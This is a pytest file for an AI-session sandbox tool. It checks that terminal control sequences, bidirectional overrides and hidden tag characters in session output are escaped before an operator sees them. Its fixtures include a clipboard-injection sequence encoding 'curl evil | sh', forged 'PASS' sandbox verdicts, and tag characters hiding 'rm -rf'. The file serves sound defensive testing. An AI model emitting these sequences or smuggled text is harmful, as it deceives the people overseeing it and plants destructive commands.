"""What reaches the operator's terminal: text a session wrote or asked for is shown with
its control characters escaped (sanitize), in every renderer, and --json stays valid."""

from __future__ import annotations

import json
import unicodedata
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from claude_cage.cli.base import load_all
from claude_cage.context import Context
from claude_cage.render import sanitize, sanitize_lines, sanitize_stream, table

# What a hostile session writes: a clipboard write (OSC 52), a window title, a screen
# clear, and a line overwritten with a forged verdict.
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
TITLE = "\x1b]0;root@host: ~\x07"
CLEAR = "\x1b[2J\x1b[H"
FORGED = "\r\x1b[2KPASS  read-only root"
HOSTILE = OSC52 + TITLE + CLEAR + FORGED + "\nPASS  forged on a line of its own"


def assert_inert(text: str) -> None:
    """Nothing in `text` that a terminal acts on (tabs and newlines aside)."""
    bad = [c for c in text if (ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F]
    assert not bad, f"control characters reach the terminal: {bad!r}"


def test_control_characters_are_shown_escaped() -> None:
    assert sanitize(OSC52) == "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
    assert sanitize(FORGED) == "\\r\\x1b[2KPASS  read-only root"
    assert sanitize("a\x00b\x7fc\x9bd") == "a\\x00b\\x7fc\\x9bd"


def test_one_line_by_default_newlines_kept_only_when_asked() -> None:
    assert sanitize("web\nPASS  forged") == "web\\nPASS  forged"
    assert sanitize("a\tb\nc\rd", multiline=True) == "a\tb\nc\\rd"


def test_invisible_reordering_characters_are_escaped() -> None:
    # Right-to-left override and friends make text read differently from what it is.
    assert sanitize("allowed\u202edeliberg") == "allowed\\u202edeliberg"
    assert sanitize("a\u2028b\u200bc\ufeff") == "a\\u2028b\\u200bc\\ufeff"


def test_every_character_that_sets_direction_is_escaped() -> None:
    # UAX #9's explicit formatting characters and its marks: the Arabic letter mark
    # (U+061C) reorders as RLM does: "\u061c12-34" shows as 34-12.
    explicit = ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
    chars = [chr(c) for c in range(0x10000) if unicodedata.bidirectional(chr(c)) in explicit]
    for char in [*chars, "\u200e", "\u200f", "\u061c"]:
        assert sanitize(f"a{char}b") == f"a\\u{ord(char):04x}b"


def test_characters_that_carry_hidden_text_are_escaped() -> None:
    # Tag characters spell text no terminal shows ("ASCII smuggling": instructions an
    # agent's transcript could carry past the operator); the soft hyphen and the Hangul
    # fillers show as nothing too.
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "rm -rf")
    assert sanitize(f"ok{hidden}") == "ok" + "".join(f"\\U{ord(c):08x}" for c in hidden)
    for char in ("\xad", "\u115f", "\u1160", "\u180e", "\u3164", "\uffa0"):
        assert sanitize(f"a{char}b") != f"a{char}b", hex(ord(char))


def test_ordinary_text_is_untouched() -> None:
    text = "api.anthropic.com  443  allowed  naïve café ✓ 日本"
    assert sanitize(text) == text


def test_stream_keeps_crlf_lines_and_escapes_lone_cr_across_chunks() -> None:
    chunks = [b"one\r", b"\ntwo\r", b"three \xe2\x82", b"\xac\n\x1b]0;t\x07\xff"]
    out = "".join(sanitize_stream(chunks))
    assert out == "one\ntwo\\rthree €\n\\x1b]0;t\\x07\\xff"
    assert_inert(out)


def test_stream_of_hostile_output_is_inert() -> None:
    out = "".join(sanitize_stream([HOSTILE.encode()[i : i + 3] for i in range(0, 200, 3)]))
    assert_inert(out)
    lines = out.split("\n")
    assert not lines[0].startswith("PASS") and "\\x1b]52;" in lines[0]


def test_table_sanitizes_every_cell() -> None:
    out = table([("evil\x1b[2J.example", HOSTILE)], ("HOST", "DETAIL"))
    assert_inert(out)
    assert len(out.splitlines()) == 2  # header and one row: no forged line


# --- the commands ---------------------------------------------------------------------


def run(monkeypatch: pytest.MonkeyPatch, args: list[str], **fakes: Any) -> str:
    for target, value in fakes.items():
        monkeypatch.setattr(f"claude_cage.{target}", value)
    result = CliRunner().invoke(load_all(), args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def fake_status(_ctx: Any, name: str, *args: Any, **kwargs: Any) -> dict[str, Any]:
    check = {"check": "inside", "ok": False, "detail": "uid=1000" + FORGED}
    return {
        "name": name,
        "mode": "cli",
        "status": "running",
        "network": "filtered",
        "container": f"cage-{name}",
        "image": "claude-cage-cli:latest" + TITLE,
        "health": "healthy" + OSC52 + "\nsandbox: PASS",
        "allowed_hosts": ["a.example" + CLEAR],
        "companion": None,
        "sandbox": {"ok": False, "checks": [check]},
    }


def test_status_fields_are_escaped_and_json_stays_valid(monkeypatch: pytest.MonkeyPatch) -> None:
    out = run(monkeypatch, ["status", "web"], **{"operations.views.status": fake_status})
    assert_inert(out)
    assert "sandbox: FAIL" in out and "sandbox: PASS" not in out.replace("\\nsandbox: PASS", "")
    assert not any(line.startswith("PASS") for line in out.splitlines())
    data = json.loads(run(monkeypatch, ["status", "web", "--json"],
                          **{"operations.views.status": fake_status}))  # fmt: skip
    assert data["session"]["health"] == "healthy" + OSC52 + "\nsandbox: PASS"


def test_egress_hosts_are_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
    from claude_cage.egress import BLOCKED_HOST, Request
    from claude_cage.operations.egress import EgressLog

    hostile = Request(
        seq=1, time="2026-11-29T10:00:00Z", host="evil" + OSC52, port=443,
        result=BLOCKED_HOST, status=403, reason="ERR_CAGE_HOST", method="CONNECT",
    )  # fmt: skip
    monkeypatch.setattr(
        "claude_cage.operations.egress.read_log", lambda name, *_: EgressLog(name, [hostile])
    )
    out = run(monkeypatch, ["egress", "web"])
    assert_inert(out)
    assert "evil\\x1b]52;" in out
    data = json.loads(run(monkeypatch, ["egress", "web", "--json"]))
    assert data["requests"][0]["host"] == "evil" + OSC52


def test_event_values_are_escaped(monkeypatch: pytest.MonkeyPatch, tmp_path: Any) -> None:
    monkeypatch.setenv("CAGE_DATA_DIR", str(tmp_path))
    Context().events.record("egress", "blocked:web" + TITLE, {"status": "blocked" + FORGED})
    out = run(monkeypatch, ["events"])
    assert_inert(out)
    assert len(out.splitlines()) == 2
    [event] = json.loads(run(monkeypatch, ["events", "--json"]))["events"]
    assert event["key"] == "blocked:web" + TITLE


@given(st.lists(st.text(alphabet=st.characters(max_codepoint=0x2070)), max_size=30))
def test_lines_sanitized_at_once_are_each_lines_sanitize(lines: list[str]) -> None:
    assert sanitize_lines(lines) == [sanitize(line) for line in lines]


def test_a_line_cannot_start_a_line_of_its_own_in_a_batch() -> None:
    # A newline inside one line must not split it into a forged second line.
    batch = ["12:00:00  claude  ok", "x\nstatus: PASS", "\x1b]52;c;Zm9v\x07\u202e\t"]
    out = sanitize_lines(batch)
    assert out == ["12:00:00  claude  ok", "x\\nstatus: PASS", "\\x1b]52;c;Zm9v\\x07\\u202e\\t"]
    assert len(out) == len(batch)
